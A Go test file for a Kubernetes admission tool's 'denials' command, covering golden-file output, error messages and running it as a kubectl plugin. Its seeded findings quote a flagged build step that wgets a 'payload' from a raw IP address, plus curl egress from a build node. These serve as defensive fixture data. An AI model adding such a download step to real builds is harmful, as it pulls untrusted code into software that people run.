package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"buildguard.dev/buildguard/decision"
	"buildguard.dev/buildguard/engine"
	"buildguard.dev/buildguard/evidence"
	"buildguard.dev/buildguard/policy"
	"buildguard.dev/buildguard/records"
)

var update = flag.Bool("update", false, "rewrite the golden files of testdata/denials")

// denialsNow is the time the seeded decisions are judged from.
var denialsNow = time.Date(2026, 11, 26, 22, 0, 0, 0, time.UTC)

// seedStore writes a SQLite store with decisions as the webhook records
// them and returns its path.
func seedStore(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "evidence.db")
	st, err := evidence.OpenSQLite(t.Context(), path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	fresh := policy.Finding{Rule: "fresh-image", Severity: "high", Action: policy.ActionDeny,
		Message: "image was created 14s before admission (2026-11-26T21:21:14Z), less than freshness.minAge 10m",
		Summary: "created 14s before admission, minAge 10m",
		Evidence: map[string]any{"ageSeconds": 14, "created": "2026-11-26T21:21:14Z", "minAge": "10m0s",
			"configDigest": "sha256:1d2e3f"}}
	step := policy.Finding{Rule: "suspicious-build-step", Severity: "high", Action: policy.ActionDeny,
		Message:  `build step 1 downloads from raw IP 203.0.113.9 with wget: "RUN wget -q http://203.0.113.9:8080/payload"`,
		Summary:  "step 1: raw-ip-download from 203.0.113.9",
		Evidence: map[string]any{"stepIndex": 1, "kinds": []string{"raw-ip-download"}, "hosts": []string{"203.0.113.9"}}}
	egress := policy.Finding{Rule: "untrusted-egress", Severity: "critical", Action: policy.ActionDeny,
		Message: "while it was built, node build-7 connected to 198.51.100.23:443 (curl)", Summary: "egress to 198.51.100.23:443",
		Evidence: map[string]any{"node": "build-7", "destination": "198.51.100.23:443"}}
	window := policy.Finding{Rule: "outside-release-window", Severity: "medium", Action: policy.ActionWarn,
		Message: "image change outside the release windows", Summary: "outside release window"}
	type seed struct {
		uid, op, ns, kind, name string
		ago                     time.Duration
		v                       policy.Verdict
	}
	img := func(container, ref, digest string, o policy.Outcome, fs ...policy.Finding) policy.ImageVerdict {
		if fs == nil {
			fs = []policy.Finding{}
		}
		return policy.ImageVerdict{Container: container, ContainerKind: "container", Image: ref, Digest: digest, Outcome: o, Findings: fs}
	}
	seeds := []seed{
		{"6f1c2a9e-1b7d-4c3a-9e51-0d2b7a4c8f10", "CREATE", "shop", "Pod", "hotfix", 14 * time.Second, policy.Verdict{
			Mode: policy.ModeEnforce, Outcome: policy.OutcomeDeny,
			Images: []policy.ImageVerdict{img("hotfix", "localhost:41417/e2e/hotfix:dev", "sha256:eaca799036c1", policy.OutcomeDeny, fresh, step)}}},
		{"a03e77d1-5f2b-4d8e-8a61-3c9f0e2b1d44", "UPDATE", "audited", "Deployment", "payments-api-canary-eu-west-1-blue", 3 * time.Minute, policy.Verdict{
			Mode: policy.ModeAudit, Outcome: policy.OutcomeDeny, Allowed: true, ChangeID: "",
			Images: []policy.ImageVerdict{
				img("api", "registry.example/payments/api:2.7.1", "sha256:77ab01", policy.OutcomeDeny, fresh, step, egress),
				img("proxy", "registry.example/base/envoy:1.31", "sha256:9f2c00", policy.OutcomeAllow),
			},
			Findings: []policy.Finding{window}}},
		{"c5d0e4b2-0a8f-4f6e-b2c7-7e1d9a3f5b66", "CREATE", "shop", "Pod", "web-7d9f8b6c5-x2x4z", 2 * time.Hour, policy.Verdict{
			Mode: policy.ModeEnforce, Outcome: policy.OutcomeAllow, Allowed: true,
			Images: []policy.ImageVerdict{img("web", "registry.example/shop/web:1.4", "sha256:f26979", policy.OutcomeAllow)}}},
		{"e81b3c47-9d2a-4b1f-8c35-5a7e0f6d2c99", "CREATE", "batch", "CronJob", "nightly-report", 30 * time.Hour, policy.Verdict{
			Mode: policy.ModeEnforce, Outcome: policy.OutcomeDeny,
			Images: []policy.ImageVerdict{img("report", "ghcr.io/acme/report:latest", "", policy.OutcomeDeny, step)}}},
	}
	for _, s := range seeds {
		d := decision.Decision{
			ID: s.uid, Source: decision.Admission, Operation: s.op,
			User:     "system:serviceaccount:kube-system:replicaset-controller",
			Groups:   []string{"system:serviceaccounts", "system:authenticated"},
			Workload: engine.Workload{Namespace: s.ns, Kind: s.kind, Name: s.name, Operation: s.op},
			Verdict:  s.v, Time: denialsNow.Add(-s.ago),
		}
		if err := st.AddDecision(t.Context(), records.FromDecision(d)); err != nil {
			t.Fatal(err)
		}
	}
	return path
}

// checkGolden compares got with testdata/name, or writes it there with
// -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (go test -update rewrites it):\n--- got\n%s--- want\n%s", path, got, want)
	}
}

func TestDenials(t *testing.T) {
	db := seedStore(t)
	tests := []struct {
		golden string
		args   []string
	}{
		{"table.golden", nil},
		{"table-all.golden", []string{"--since", "0", "--verdict", "all"}},
		{"json.golden", []string{"-o", "json"}},
		{"yaml.golden", []string{"--output", "yaml"}},
		{"namespace.golden", []string{"-n", "shop"}},
		{"rule.golden", []string{"--rule", "untrusted-egress"}},
		{"image.golden", []string{"--image", "registry.example/payments/*"}},
		{"verdict.golden", []string{"--verdict", "deny", "--since", "48h"}},
		{"show.golden", []string{"show", "a03e77d1-5f2b-4d8e-8a61-3c9f0e2b1d44"}},
		{"show-prefix.golden", []string{"show", "6f1c2a9e"}},
		{"show-json.golden", []string{"show", "a03e77d1", "-o", "json"}},
		{"show-yaml.golden", []string{"show", "a03e77d1", "-o", "yaml"}},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			args := append([]string{"--store-sqlite", db}, tt.args...)
			if err := denials(t.Context(), args, &stdout, &stderr, denialsNow); err != nil {
				t.Fatalf("denials(%q) = %v; stderr:\n%s", args, err, stderr.String())
			}
			checkGolden(t, filepath.Join("denials", tt.golden), stdout.Bytes())
			if strings.HasPrefix(tt.golden, "table") || strings.HasPrefix(tt.golden, "namespace") {
				for l := range strings.Lines(stdout.String()) {
					if n := utf8.RuneCountInString(strings.TrimSuffix(l, "\n")); n > tableWidth {
						t.Errorf("line of %d columns, want at most %d: %q", n, tableWidth, l)
					}
				}
			}
		})
	}
}

// TestDenialsJSONStable checks the documented fields of --output json.
func TestDenialsJSONStable(t *testing.T) {
	db := seedStore(t)
	var stdout, stderr bytes.Buffer
	if err := denials(t.Context(), []string{"--store-sqlite", db, "-o", "json", "--since", "0", "--verdict", "all"}, &stdout, &stderr, denialsNow); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(stdout.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("got %d lines, want 4 (one object per decision)", len(lines))
	}
	want := []string{"id", "time", "operation", "namespace", "kind", "name", "user", "groups", "mode", "verdict", "rules", "exceptions", "images"}
	for _, l := range lines {
		var m map[string]json.RawMessage
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatal(err)
		}
		for _, k := range want {
			if _, ok := m[k]; !ok {
				t.Errorf("object lacks %q: %s", k, l)
			}
		}
		if len(m) != len(want) {
			t.Errorf("object has %d fields, want %d: %s", len(m), len(want), l)
		}
	}
}

func TestDenialsErrors(t *testing.T) {
	db := seedStore(t)
	tests := []struct {
		name    string
		args    []string
		wantErr string
	}{
		{"no store", []string{"denials"}, "name the store"},
		{"missing file", []string{"denials", "--store-sqlite", filepath.Join(t.TempDir(), "nope.db")}, "no such file"},
		{"bad output", []string{"denials", "--store-sqlite", db, "-o", "xml"}, `--output "xml"`},
		{"bad verdict", []string{"denials", "--store-sqlite", db, "--verdict", "denied"}, `--verdict "denied"`},
		{"show without ID", []string{"denials", "--store-sqlite", db, "show"}, "one decision ID"},
		{"show unknown", []string{"denials", "--store-sqlite", db, "show", "ffffffff"}, `no decision "ffffffff"`},
		{"show too short", []string{"denials", "--store-sqlite", db, "show", "a0"}, `no decision "a0"`},
		{"stray argument", []string{"denials", "--store-sqlite", db, "list"}, `unexpected arguments ["list"]`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			code := run(t.Context(), tt.args, &stdout, &stderr)
			if code != exitError || !strings.Contains(stderr.String(), tt.wantErr) {
				t.Errorf("run(%q) = %d, stderr %q; want %d and %q", tt.args, code, stderr.String(), exitError, tt.wantErr)
			}
		})
	}
}

func TestFitList(t *testing.T) {
	for _, tt := range []struct {
		s    string
		n    int
		want string
	}{
		{"fresh-image", 20, "fresh-image"},
		{"fresh-image,suspicious-build-step,untrusted-egress", 30, "fresh-image,+2"},
		{"fresh-image,unsigned,untrusted-egress", 30, "fresh-image,unsigned,+1"},
		{"suspicious-build-step,unsigned", 12, "suspicio…,+1"},
	} {
		if got := fitList(tt.s, tt.n); got != tt.want || utf8.RuneCountInString(got) > tt.n {
			t.Errorf("fitList(%q, %d) = %q, want %q", tt.s, tt.n, got, tt.want)
		}
	}
	if got := cutMiddle("audited/deployment/payments-api-canary-eu-west-1-blue", 30); utf8.RuneCountInString(got) != 30 || !strings.HasPrefix(got, "audited/") || !strings.HasSuffix(got, "-blue") {
		t.Errorf("cutMiddle = %q (%d runes), want 30", got, utf8.RuneCountInString(got))
	}
}

// TestKubectlPlugin builds the binary as kubectl-buildguard and runs it
// as kubectl would, and through kubectl itself when bin/kubectl is built.
func TestKubectlPlugin(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	dir := t.TempDir()
	exe := filepath.Join(dir, pluginName)
	if runtime.GOOS == "windows" {
		exe += ".exe"
	}
	build := exec.Command("go", "build", "-o", exe, ".")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	db := seedStore(t)
	args := []string{"denials", "--store-sqlite", db, "--since", "0", "-o", "json"}
	var want, stderr bytes.Buffer
	if code := run(t.Context(), args, &want, &stderr); code != exitOK {
		t.Fatalf("run: %d %s", code, stderr.String())
	}

	out, err := exec.Command(exe, args...).Output()
	if err != nil {
		t.Fatalf("%s %q: %v", exe, args, err)
	}
	if !bytes.Equal(out, want.Bytes()) {
		t.Errorf("as %s:\n%s\nwant\n%s", pluginName, out, want.Bytes())
	}
	out, _ = exec.Command(exe, "help").Output()
	if !strings.HasPrefix(string(out), "kubectl buildguard denies") || !strings.Contains(string(out), "kubectl buildguard denials show ID") {
		t.Errorf("help as %s = %q, want it to name itself kubectl buildguard", pluginName, out)
	}
	errOut, _ := exec.Command(exe, "denials").CombinedOutput()
	if !strings.HasPrefix(string(errOut), "kubectl buildguard: name the store") {
		t.Errorf("error as %s = %q", pluginName, errOut)
	}

	kubectl, err := filepath.Abs(filepath.Join("..", "..", "bin", "kubectl"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(kubectl); err != nil {
		t.Skipf("no kubectl (make tools builds it): %v", err)
	}
	cmd := exec.Command(kubectl, append([]string{"buildguard"}, args...)...)
	cmd.Env = append(os.Environ(), "PATH="+dir+string(os.PathListSeparator)+os.Getenv("PATH"),
		"KUBECONFIG="+filepath.Join(dir, "no-kubeconfig"))
	out, err = cmd.Output()
	if err != nil {
		var stderr []byte
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = ee.Stderr
		}
		t.Fatalf("kubectl buildguard: %v\n%s", err, stderr)
	}
	if !bytes.Equal(out, want.Bytes()) {
		t.Errorf("kubectl buildguard %q:\n%s\nwant\n%s", args, out, want.Bytes())
	}
}

func TestProgramName(t *testing.T) {
	for arg0, want := range map[string]string{
		"buildguard": "buildguard", "/usr/local/bin/buildguard": "buildguard",
		"/home/u/.krew/bin/kubectl-buildguard": "kubectl buildguard", `C:\bin\kubectl-buildguard.exe`: "kubectl buildguard",
	} {
		if runtime.GOOS != "windows" && strings.Contains(arg0, `\`) {
			continue
		}
		if got := programName(arg0); got != want {
			t.Errorf("programName(%q) = %q, want %q", arg0, got, want)
		}
	}
}
